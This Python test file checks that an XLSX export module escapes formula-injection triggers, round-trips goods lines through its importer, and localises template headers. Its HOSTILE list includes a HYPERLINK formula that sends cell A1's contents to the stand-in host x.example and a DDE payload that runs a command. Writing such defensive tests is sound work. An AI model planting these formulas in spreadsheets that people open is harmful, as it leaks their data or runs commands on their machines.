"""XLSX exports: formula injection neutralised, goods read back by the importer, templates per language."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.core import i18n
from desktop.core.model.shipment import GoodsLine, Shipment
from desktop.core.sheets.importing import preview_file
from desktop.core.sheets.writing import neutralise, write_goods, write_table, write_template

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1", "＝1+1"]


def test_formula_triggers_are_neutralised(tmp_path: Path) -> None:
    path = write_table(tmp_path / "list.xlsx", ["=Header", "Amount"], [[text, Decimal("-5")] for text in HOSTILE])
    sheet = load_workbook(path).active
    assert sheet is not None
    assert sheet["A1"].value == "'=Header"
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, 1)
        # a raw CR reads back as LF from plain XML; openpyxl on lxml writes it escaped and it reads back as CR
        assert cell.data_type == "s" and cell.value in ("'" + text, "'" + text.replace("\r", "\n"))
        assert sheet.cell(row, 2).value == -5  # numbers stay numbers
    assert neutralise("Ceramic") == "Ceramic"


@pytest.mark.parametrize("lang", i18n.LANGUAGES)
def test_exported_goods_import_back(tmp_path: Path, lang: str) -> None:
    goods = [GoodsLine(name_zh="茶叶", name_en="=Tea", commodity_code="0902301000", quantity=Decimal(10),
                       unit="035", unit_price=Decimal("4.5"), total=Decimal(45), gross_weight=Decimal(12),
                       packages=2, origin_country="VNM")]
    path = write_goods(Shipment(goods=goods), tmp_path / f"goods-{lang}.xlsx", lang)
    (line,) = preview_file(path).lines()
    assert line.name_zh == "茶叶" and line.name_en == "'=Tea"
    assert (line.quantity, line.unit, line.total, line.packages, line.origin_country) == (
        Decimal(10), "035", Decimal(45), 2, "VNM")


@pytest.mark.parametrize("lang", i18n.LANGUAGES)
def test_template_headers_are_in_the_language_and_map_back(tmp_path: Path, lang: str) -> None:
    path = write_template(tmp_path / f"t-{lang}.xlsx", lang)
    book = load_workbook(path)
    headers = [c.value for c in book.worksheets[0][1]]
    assert i18n.translate("Field", "Unit price", lang) in headers
    assert len(book.worksheets) == 2
    from desktop.core.sheets.cells import read_sheets
    from desktop.core.sheets.headers import goods_vocabulary
    from desktop.core.sheets.importing import find_header

    mapping = find_header(read_sheets(path)[0], goods_vocabulary())
    assert all(c.field for c in mapping.columns), [c.header for c in mapping.columns if not c.field]
